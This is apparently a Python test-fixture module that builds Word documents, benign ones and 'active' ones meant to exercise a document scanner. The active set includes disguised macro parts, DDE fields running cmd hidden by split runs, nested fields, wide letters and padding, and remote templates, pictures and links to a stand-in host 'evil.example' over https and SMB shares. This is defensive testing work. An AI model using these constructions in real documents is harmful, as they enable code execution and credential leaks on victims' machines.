"""Word documents: harmless ones with given parts, and those that act when they are opened."""

import io
import zipfile

_TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OLE = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


def word_document(
    *members: tuple[str | zipfile.ZipInfo, bytes], body: str = "", relationships: str = "", types: str = ""
) -> bytes:
    """Return a Word document with these members, body and relationships besides the required ones."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            f'<Types xmlns="{_TYPES}"><Default Extension="rels" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_MAIN}"/>{types}</Types>',
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="r1" Type="{_OFFICE}/officeDocument" '
            'Target="word/document.xml"/></Relationships>',
        )
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{_WORD}"><w:body>{body}</w:body></w:document>')
        if relationships:
            archive.writestr("word/_rels/document.xml.rels", _relations(relationships))
        for name, content in members:
            archive.writestr(name, content)
    return written.getvalue()


def _relations(relationships: str) -> str:
    return f'<Relationships xmlns="{_PACKAGE}">{relationships}</Relationships>'


def zip_of(*members: tuple[str, bytes]) -> bytes:
    """Return an archive of these members."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return written.getvalue()


def _mark(kind: str) -> str:
    return f'<w:fldChar w:fldCharType="{kind}"/>'


def field(*code: str, result: str = "") -> str:
    """Return a field of a Word document: its code in one run for each piece (text, or a field), and its result."""
    pieces = (each if each.startswith("<") else f"<w:r><w:instrText>{each}</w:instrText></w:r>" for each in code)
    shown = f"{_mark('separate')}<w:r><w:t>{result}</w:t></w:r>" if result else ""
    return f"{_mark('begin')}{''.join(pieces)}{shown}{_mark('end')}"


_FIELDS = {
    "DDE in pieces": field("D", "de", "auto c:\\cmd.exe"),
    "DDE in a simple field": '<w:fldSimple w:instr=" \n dDe cmd"/>',
    "DDE around an empty field": field("D", field(), "DEAUTO cmd"),
    "DDE from the result of a field": field(field("QUOTE 68 68 69", result="DDE"), " cmd"),
    "DDE from a field without a result": field(field("QUOTE 68 68 69"), " cmd"),
    "DDE within the code of a field": field("IF 1 = 1 ", field("DDE cmd")),
    "DDE within the result of a field": f"{field('PAGE')[: -len(_mark('end'))]}{_mark('separate')}{field('DDE cmd')}",
    "DDE in ordinary text of a code": field("<w:r><w:t>DDE</w:t></w:r>", " cmd"),
    "DDE in a deleted code": field("<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>"),
    "DDE without its end": field("DDE cmd")[: -len(_mark("end"))],
    "DDE in wide letters": field("\uff24\uff24\uff25 cmd"),
    "DDE behind many spaces": field(" " * 20_000, "DDE cmd"),
    "a text from elsewhere": field("IncludeText ", "&quot;https://evil.example/a.docx&quot;"),
    "a picture from elsewhere": field("INCLUDEPICTURE &quot;https://evil.example/a.png&quot; \\d"),
    "an imported picture": field("IMPORT \\\\evil.example\\a.png"),
    "a document that is referred to": field("RD \\\\evil.example\\a.docx"),
    "a link to a share": field("HYPERLINK \\t &quot;_top&quot; &quot;\\\\\\\\evil.example\\a&quot;"),
}
_TARGETS = {
    *(("image", "\\\\evil.example\\a.png"), ("image", "file://evil.example/a.png"), ("IMAGE", "SMB://evil.example/a")),
    *(("image", "//evil.example/a.png"), ("image", "%5c%5cevil.example/a.png"), ("image", "%255C%255Cevil.example/a")),
    *(("image", "a.png"), ("oleObject", "a.bin"), ("frame", "a.html"), ("subDocument", "a.docx"), ("subdocument", "a")),
    *(("attachedTemplate", "File:////evil.example/a.dotm"), ("attachedTemplate", "%255C%255Cevil.example/a.dotm")),
    *(("attachedTemplate", "\\/evil.example/a.dotm"), ("attachedtemplate", "https://evil.example/a.dotm")),
    *(
        ("settings", "https://evil.example/a.xml"),
        ("hyperlink", "\\\\evil.example\\a"),
        ("hyperlink", "FILE:///c:/a.exe"),
    ),
    *(
        ("hyperlink", "fi&#10;le:///c:/a.exe"),
        ("hyperlink", "%5C%5Cevil.example/a"),
        ("hyperlink", "javascript:alert(1)"),
    ),
}


def _relation(kind: str, target: str, *, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="r9" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def active_documents() -> dict[str, bytes]:
    """Return documents that run or load something, by what it is."""
    documents = {
        "a document with macros": word_document(("word/vbaProject.bin", b"x")),
        "a document with a renamed part of macros": word_document(("word/media/image1.png", _OLE)),
        "a document with a part of the type of macros": word_document(
            ("word/data.bin", b"x"),
            types='<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
        ),
        "a document with a remote template": word_document(
            relationships=_relation("attachedTemplate", "https://evil.example/a.dotm")
        ),
        "a document with a template on a share": word_document(
            relationships=_relation("attachedTemplate", "\\\\evil.example\\a\\b.dotm")
        ),
        "a document with a remote picture": word_document(
            relationships=_relation("image", "https://evil.example/a.png")
        ),
        "a document with an OLE object": word_document(
            ("word/embeddings/oleObject1.bin", _OLE),
            relationships=_relation("oleObject", "embeddings/oleObject1.bin", external=False),
        ),
        "a document with an embedded workbook": word_document(
            ("word/embeddings/a.xlsx", zip_of(("xl/workbook.xml", b"")))
        ),
        "a document with a web page inside": word_document(
            relationships=_relation("aFChunk", "a.html", external=False)
        ),
        "a document with DDE in a header of another name": word_document(
            ("word/header.bin", f'<w:hdr xmlns:w="{_WORD}">{field("DDE cmd")}</w:hdr>'.encode()),
            types=f'<Override PartName="/word/header.bin" ContentType="{_MAIN.replace("document.main", "header")}"/>',
        ),
        "a document with a remote picture in a footnote": word_document(
            ("word/_rels/footnotes.xml.RELS", _relations(_relation("image", "https://evil.example/a.png")).encode())
        ),
        "a document with a remote part that is called internal": word_document(
            relationships=_relation("image", "https://evil.example/a.png", external=False)
        ),
    }
    documents |= {f"a document with {name}": word_document(body=body) for name, body in _FIELDS.items()}
    documents |= {
        f"a document with {kind} at {target}": word_document(relationships=_relation(kind, target))
        for kind, target in sorted(_TARGETS)
    }
    return documents
